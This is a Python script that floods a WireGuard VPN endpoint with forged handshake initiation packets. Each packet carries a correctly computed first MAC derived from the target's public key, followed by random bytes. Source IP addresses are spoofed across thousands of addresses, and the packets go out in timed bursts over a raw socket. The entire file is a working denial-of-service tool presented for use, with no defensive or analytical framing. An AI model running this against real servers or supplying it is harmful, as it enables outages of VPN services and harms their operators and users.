"""Sends WireGuard initiations with a right first MAC and nothing right behind it, from many addresses.

Arguments: public key and IPv4 address of the target, its port, seconds, messages in one burst, seconds between bursts.
"""
import base64
import hashlib
import itertools
import os
import socket
import struct
import sys
import time

key, address, port, seconds, burst, pause = sys.argv[1:]
mac_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
target = socket.inet_aton(address)


def initiation(number):
    """A whole IPv4 packet."""
    body = struct.pack("<I", 1) + os.urandom(112)
    body += hashlib.blake2s(body, key=mac_key, digest_size=16).digest() + bytes(16)
    source = bytes([10, 200, number >> 8 & 255, number & 255])
    udp = struct.pack(">HHHH", 1000, int(port), 8 + len(body), 0)
    length = 20 + len(udp) + len(body)
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, length, number & 65535, 0, 64, 17, 0, source, target)
    return header + udp + body


packets = itertools.cycle([initiation(number) for number in range(4096)])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    for packet in itertools.islice(packets, int(burst)):
        raw.sendto(packet, (address, 0))
    time.sleep(float(pause))
